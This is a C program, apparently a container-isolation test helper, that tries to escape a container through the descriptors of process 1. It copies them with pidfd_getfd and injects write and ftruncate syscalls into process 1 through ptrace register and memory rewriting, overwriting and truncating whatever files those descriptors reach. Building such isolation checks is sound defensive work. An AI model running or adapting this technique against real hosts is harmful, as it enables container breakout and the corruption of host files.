/* SPDX-License-Identifier: Apache-2.0 */

/*
 * escape-init TEXT
 *
 * Runs as root of a container and misuses the descriptors of process 1 in two ways: it copies them with
 * pidfd_getfd(2), and it makes process 1 use them with ptrace(2). It writes TEXT and as much more as
 * possible to each, and changes its length. It prints a line "fd N LINK" for each descriptor, and "ESCAPE
 * ..." for one that leads to a file; then "traced" or "not traced"; "written N", the bytes that process 1
 * wrote; and "done".
 */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "base/fd.h"
#include "base/string.h"

#define FDS_MAX 64
#define CHUNK 4096
#define CHUNKS 64
#define STOPS_MAX 500
#define SYSCALL_INSTRUCTION 0x050f /* as a number, the bytes 0f 05 */

static char text[CHUNK];

/* Return: whether process 1 may have such a descriptor: it has no path, or the container can open the path
 * anyway. */
static bool is_harmless(const char *link) {
        static const char *const prefixes[] = { "pipe:[", "socket:[", "anon_inode:", "/dev/null",
                "/dev/ptmx", "/dev/pts/", "/dev/console" };

        for (size_t i = 0; i < ELEMENTSOF(prefixes); i++)
                if (string_after_prefix(link, prefixes[i]))
                        return true;
        return false;
}

static void show_descriptors(void) {
        DIR *directory = opendir("/proc/1/fd");

        for (struct dirent *entry; directory && (entry = readdir(directory));) {
                char link[512];
                ssize_t n = readlinkat(dirfd(directory), entry->d_name, link, sizeof(link) - 1);

                if (n <= 0)
                        continue;
                link[n] = 0;
                printf("fd %s %s\n", entry->d_name, link);
                if (!is_harmless(link))
                        printf("ESCAPE descriptor %s of process 1 leads to %s\n", entry->d_name, link);
        }
        if (directory)
                (void) closedir(directory);
}

/* Copies the descriptors of process 1 and uses the copies. */
static void use_taken(void) {
        _cleanup_fd_ int pidfd = (int) syscall(SYS_pidfd_open, 1, 0);

        for (int i = 0; pidfd >= 0 && i < FDS_MAX; i++) {
                _cleanup_fd_ int fd = (int) syscall(SYS_pidfd_getfd, pidfd, i, 0);

                if (fd < 0)
                        continue;
                printf("taken %d\n", i);
                (void) fcntl(fd, F_SETFL, O_NONBLOCK);
                (void) !ftruncate(fd, 0);
                (void) !write(fd, text, strlen(text));
        }
}

#ifdef __x86_64__

/* Makes a system call in process 1, which is stopped in one: its previous instruction is the one that makes
 * system calls. */
static long call_in_init(const struct user_regs_struct *before, long number, long a, long b, long c) {
        struct user_regs_struct registers = *before;
        int status;

        registers.rip = before->rip - 2;
        registers.rax = (unsigned long long) number;
        registers.orig_rax = (unsigned long long) -1;
        registers.rdi = (unsigned long long) a;
        registers.rsi = (unsigned long long) b;
        registers.rdx = (unsigned long long) c;
        if (ptrace(PTRACE_SETREGS, 1, NULL, &registers) < 0 ||
                ptrace(PTRACE_SINGLESTEP, 1, NULL, NULL) < 0 || waitpid(1, &status, __WALL) != 1 ||
                ptrace(PTRACE_GETREGS, 1, NULL, &registers) < 0)
                return -ECHILD;
        return (long) registers.rax;
}

/* Makes process 1 write to its descriptor and change the length. Return: how many bytes it wrote. */
static long use_in_init(const struct user_regs_struct *registers, int fd) {
        long address = (long) ((registers->rsp - 2 * CHUNK) & ~7ULL), written = 0;

        for (size_t i = 0; i < sizeof(text); i += sizeof(long)) {
                long word;

                memcpy(&word, text + i, sizeof(word));
                (void) ptrace(PTRACE_POKEDATA, 1, (void *) (address + (long) i), (void *) word);
        }
        (void) call_in_init(registers, SYS_fcntl, fd, F_SETFL, O_NONBLOCK);
        (void) call_in_init(registers, SYS_ftruncate, fd, 0, 0);
        for (int i = 0; i < CHUNKS; i++) {
                /* The text, what else there is room for, and what an eventfd takes: newer kernels refuse
                 * more. */
                long length = i == 0 ? (long) strlen(text) : i % 2 ? CHUNK : (long) sizeof(uint64_t);
                long n = call_in_init(registers, SYS_write, fd, address, length);

                if (n > 0)
                        written += n;
        }
        (void) call_in_init(registers, SYS_ftruncate, fd, 1 << 20, 0);
        return written;
}

/* Return: whether the descriptor is a stream of the task or of the journal, which any command has, too. */
static bool is_stream(int fd) {
        char path[64], link[64];

        (void) snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
        ssize_t n = readlink(path, link, sizeof(link) - 1);
        link[n > 0 ? n : 0] = 0;
        return string_after_prefix(link, "socket:[") || string_after_prefix(link, "pipe:[");
}

/*
 * Stops process 1 in a system call. Between two calls, it lets the process run for a moment and tries again.
 *
 * Return: whether it is stopped in a system call.
 */
static bool stop_init(struct user_regs_struct *ret) {
        int status;

        if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) < 0)
                return false;
        for (int i = 0; i < STOPS_MAX; i++) {
                if (ptrace(PTRACE_INTERRUPT, 1, NULL, NULL) < 0 || waitpid(1, &status, __WALL) != 1 ||
                        ptrace(PTRACE_GETREGS, 1, NULL, ret) < 0)
                        return false;
                if ((ptrace(PTRACE_PEEKTEXT, 1, (void *) (ret->rip - 2), NULL) & 0xffff) ==
                        SYSCALL_INSTRUCTION)
                        return true;
                (void) ptrace(PTRACE_CONT, 1, NULL, NULL);
                (void) usleep(10000);
        }
        errno = ETIMEDOUT;
        return false;
}

static void use_traced(void) {
        struct user_regs_struct registers;
        long written = 0;

        if (!stop_init(&registers)) {
                printf("not traced: %s\n", strerror(errno));
                return;
        }

        printf("traced\n");
        /* 0 to 2 may be the task's streams. */
        for (int fd = 3; fd < FDS_MAX; fd++) {
                long n = is_stream(fd) ? 0 : use_in_init(&registers, fd);

                if (n > 0)
                        printf("process 1 wrote %ld to %d\n", n, fd);
                written += n;
        }
        (void) ptrace(PTRACE_SETREGS, 1, NULL, &registers);
        (void) ptrace(PTRACE_DETACH, 1, NULL, NULL);
        printf("written %ld\n", written);
}

#else

static void use_traced(void) {
        printf("not traced: this machine's registers are not known\n");
}

#endif

int main(int argc, char **argv) {
        (void) setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc > 1)
                (void) snprintf(text, sizeof(text), "%s\n", argv[1]);
        show_descriptors();
        use_taken();
        use_traced();
        printf("done\n");
        for (;;)
                (void) pause();
}
